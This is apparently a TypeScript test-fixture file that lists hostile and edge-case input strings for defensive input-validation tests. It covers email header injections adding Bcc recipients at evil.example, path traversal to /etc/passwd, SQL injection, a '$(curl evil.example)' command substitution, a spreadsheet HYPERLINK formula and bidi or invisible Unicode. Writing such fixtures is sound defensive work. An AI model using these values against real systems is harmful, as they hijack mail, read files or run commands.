const LONG = 10_000;

/** Would add a mail header if line breaks were kept. */
export const HEADER_INJECTIONS: readonly string[] = [
  'Camille\r\nBcc: intrus@evil.example',
  'Camille\nBcc: intrus@evil.example',
  'Camille\rBcc: intrus@evil.example',
  'Camille\r\n Bcc: intrus@evil.example',
  'Camille\r\nTo: intrus@evil.example',
  'Camille\r\nSubject: Virement urgent',
  'Camille\r\n\r\n<script>__pwned(1)</script>',
  'Camille\u2028Bcc: intrus@evil.example',
  'Camille\u0085Bcc: intrus@evil.example',
  'Camille\0\r\nBcc: intrus@evil.example',
  'Camille%0D%0ABcc:%20intrus@evil.example',
  '"Camille" <intrus@evil.example>, x',
  '=?utf-8?B?Qmx1ZQ0KQmNjOiBpbnRydXNAZXZpbC5leGFtcGxl?=',
  'Camille\r\nContent-Type: text/html; boundary=x\r\n\r\n--x',
];

/** Property names of every object, paths, and code of other languages. */
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'then',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '..%2F..%2Fetc%2Fpasswd',
  '%3Cscript%3E__pwned(1)%3C/script%3E',
  '%253Cscript%253E__pwned(1)%253C/script%253E',
  "' OR '1'='1",
  '$(curl evil.example)',
  '=HYPERLINK("https://evil.example/","Cliquez")',
  '.*+?^${}()|[\\]',
];

/** Characters that reorder, hide, combine or terminate a text. */
const CHARACTERS = [
  '\u202Eengam eriaf\u202C',
  '\u2066\u2067isolé\u2069\u2069',
  'invi\u200Bsi\u200Cble\u200D\u2060\uFEFF',
  '\u200B\u200B\u200B',
  'fin\0suite',
  'sonnerie\u0007\u0008\u001B[31m',
  'moitié\uD83D',
  '\uDE00moitié',
  '\uD800\uDBFF',
  'Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u030A\u030B\u030C'.repeat(40),
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(50),
  '﷽'.repeat(100),
  'مهمة אבג 山田 ไทย Ω',
  '\uFFFE\uFFFF',
];

const LONG_TEXTS = [
  'W'.repeat(LONG),
  'mot '.repeat(LONG / 4),
  'l\n'.repeat(LONG / 4),
  '<'.repeat(LONG / 4),
  '<b>'.repeat(LONG / 8),
  `${'['.repeat(LONG / 4)}${']'.repeat(LONG / 4)}`,
  `https://exemple.fr/${'a'.repeat(LONG / 4)}`,
];

export const TEXTS: readonly string[] = [
  ...HEADER_INJECTIONS,
  ...NAMES,
  ...CHARACTERS,
  ...LONG_TEXTS,
];
